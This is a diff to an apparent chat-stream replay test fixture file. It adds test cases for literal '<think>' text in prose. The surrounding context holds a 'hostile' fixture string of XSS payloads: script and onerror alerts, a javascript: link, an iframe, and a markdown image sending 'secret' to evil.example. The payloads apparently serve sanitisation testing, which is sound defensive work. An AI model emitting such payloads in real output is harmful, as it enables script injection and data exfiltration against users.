@@ -46,6 +46,8 @@ export const REPLAY_TEXT = {
 	hostile:
 		'<script>alert(1)</script> <img src=x onerror=alert(2)> ![a](https://evil.example/?q=secret) ' +
 		'[go](javascript:alert(3)) <iframe src="//evil.example"></iframe> {{user}} </p><style>*{}</style> data: [DONE]',
+	thinkWord: 'He wrote <think> on the wall. And then he left.',
+	thinkOpen: '<think> was the first word on the wall.',
 	beforeCut: 'The lamp goes out and',
 	slow: Array.from({ length: 60 }, (_, index) => `word${index} `).join(''),
 	stepped: 'One lamp burns on. 👨‍👩‍👧‍👦 🇺🇦 caf\u0065\u0301 שלום مرحبا 日本語 𝒳 — and the tide turns at last.',
@@ -182,6 +184,8 @@ const SCENARIOS: Readonly<Record<string, (exchange: Exchange, slowMs: number) =>
 			...finished(REPLAY_TEXT.whole)
 		]),
 	think: (exchange) => stream(exchange, finished(`<think>She would be glad.</think>${REPLAY_TEXT.whole}`)),
+	'think-word': (exchange) => stream(exchange, finished(REPLAY_TEXT.thinkWord)),
+	'think-open': (exchange) => stream(exchange, finished(REPLAY_TEXT.thinkOpen)),
 	comments: async (exchange) => {
 		startStream(exchange);
 		const noisy = finished(REPLAY_TEXT.whole).map(
